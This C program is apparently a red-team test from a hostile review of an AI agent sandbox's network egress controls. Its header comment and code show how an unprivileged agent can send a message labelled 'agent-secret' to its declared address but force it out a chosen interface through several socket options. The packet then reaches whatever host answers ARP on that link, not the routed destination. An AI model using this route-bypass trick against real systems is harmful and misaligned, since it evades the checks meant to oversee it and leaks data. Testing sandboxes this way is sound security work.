/* ha12-oif: hostile review h-attack12. The agent sends to the DECLARED
 * address, but chooses the interface it leaves by, so the kernel takes the
 * address as on-link there (ip_route_output_key_hash_rcu: with an output
 * interface and no route through it, "assume that the destination is on
 * link") and hands the datagram to whichever host answers ARP for it on that
 * link: another host than the one the route leads to. None of these needs a
 * capability:
 *
 *   ha12-oif MODE DEST:PORT IFNAME
 *     plain         sendto(DEST)                       (control: the route)
 *     pktinfo       sendmsg(DEST) with an IP_PKTINFO control message naming
 *                   IFNAME (ipi_ifindex; a forwarded control message)
 *     bindtodevice  SO_BINDTODEVICE IFNAME, then sendto(DEST) (an unbound
 *                   socket needs no CAP_NET_RAW since 5.7)
 *     unicastif     IP_UNICAST_IF IFNAME, then sendto(DEST)
 *     tcp           SO_BINDTODEVICE IFNAME, connect(DEST), write()
 *     dontroute     sendto(DEST, MSG_DONTROUTE): no interface named (IFNAME
 *                   is ignored); the route's own link, but "ignoring
 *                   routing tables", so the gateway is skipped and the
 *                   address is looked up on the link (ARP)
 *     sodontroute   SO_DONTROUTE, then sendto(DEST): the same as a socket
 *                   option
 *                   (both held on 6.18: with no interface named, the
 *                   lookup wants a link-scope route and the default route
 *                   is not one, ENETUNREACH; with one named they are the
 *                   modes above)
 *
 * Each sends "agent-secret via MODE" and prints what the call returned. */
#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	struct sockaddr_in sin = {.sin_family = AF_INET};
	char msg[64], host[64], *colon;
	const char *mode;
	unsigned ifindex;
	int s, one = 1;
	long rc;

	if (argc != 4) {
		fprintf(stderr, "usage: ha12-oif MODE DEST:PORT IFNAME\n");
		return 2;
	}
	mode = argv[1];
	snprintf(host, sizeof(host), "%s", argv[2]);
	colon = strchr(host, ':');
	if (!colon)
		return 2;
	*colon = '\0';
	sin.sin_port = htons((unsigned short)atoi(colon + 1));
	if (inet_pton(AF_INET, host, &sin.sin_addr) != 1)
		return 2;
	ifindex = if_nametoindex(argv[3]);
	snprintf(msg, sizeof(msg), "agent-secret via %s", mode);
	s = socket(AF_INET, strcmp(mode, "tcp") == 0 ? SOCK_STREAM : SOCK_DGRAM, 0);
	if (strcmp(mode, "plain") == 0) {
		rc = sendto(s, msg, strlen(msg), 0, (struct sockaddr *)&sin, sizeof(sin));
	} else if (strcmp(mode, "pktinfo") == 0) {
		union {
			char buf[CMSG_SPACE(sizeof(struct in_pktinfo))];
			struct cmsghdr align;
		} u;
		struct iovec iov = {.iov_base = msg, .iov_len = strlen(msg)};
		struct msghdr mh = {.msg_name = &sin,
				    .msg_namelen = sizeof(sin),
				    .msg_iov = &iov,
				    .msg_iovlen = 1,
				    .msg_control = u.buf,
				    .msg_controllen = sizeof(u.buf)};
		struct cmsghdr *c = CMSG_FIRSTHDR(&mh);
		struct in_pktinfo pi = {.ipi_ifindex = (int)ifindex};

		memset(u.buf, 0, sizeof(u.buf));
		c->cmsg_level = IPPROTO_IP;
		c->cmsg_type = IP_PKTINFO;
		c->cmsg_len = CMSG_LEN(sizeof(pi));
		memcpy(CMSG_DATA(c), &pi, sizeof(pi));
		rc = sendmsg(s, &mh, 0);
	} else if (strcmp(mode, "bindtodevice") == 0 || strcmp(mode, "tcp") == 0) {
		if (setsockopt(s, SOL_SOCKET, SO_BINDTODEVICE, argv[3],
			       (socklen_t)strlen(argv[3])) != 0) {
			printf("agent: SO_BINDTODEVICE %s: %s\n", argv[3], strerror(errno));
			return 1;
		}
		if (strcmp(mode, "tcp") == 0) {
			rc = connect(s, (struct sockaddr *)&sin, sizeof(sin));
			printf("agent: connect = %ld (%s)\n", rc, rc < 0 ? strerror(errno) : "ok");
			rc = rc < 0 ? rc : write(s, msg, strlen(msg));
			usleep(300 * 1000);
		} else {
			rc = sendto(s, msg, strlen(msg), 0, (struct sockaddr *)&sin, sizeof(sin));
		}
	} else if (strcmp(mode, "dontroute") == 0) {
		rc = sendto(s, msg, strlen(msg), MSG_DONTROUTE, (struct sockaddr *)&sin,
			    sizeof(sin));
	} else if (strcmp(mode, "sodontroute") == 0) {
		if (setsockopt(s, SOL_SOCKET, SO_DONTROUTE, &one, sizeof(one)) != 0) {
			printf("agent: SO_DONTROUTE: %s\n", strerror(errno));
			return 1;
		}
		rc = sendto(s, msg, strlen(msg), 0, (struct sockaddr *)&sin, sizeof(sin));
	} else if (strcmp(mode, "unicastif") == 0) {
		unsigned be = htonl(ifindex);

		if (setsockopt(s, IPPROTO_IP, IP_UNICAST_IF, &be, sizeof(be)) != 0) {
			printf("agent: IP_UNICAST_IF: %s\n", strerror(errno));
			return 1;
		}
		rc = sendto(s, msg, strlen(msg), 0, (struct sockaddr *)&sin, sizeof(sin));
	} else {
		return 2;
	}
	printf("agent uid %d %s to %s (ifindex %u of %s): %ld (%s)\n", getuid(), mode, argv[2],
	       ifindex, argv[3], rc, rc < 0 ? strerror(errno) : "ok");
	close(s);
	return 0;
}
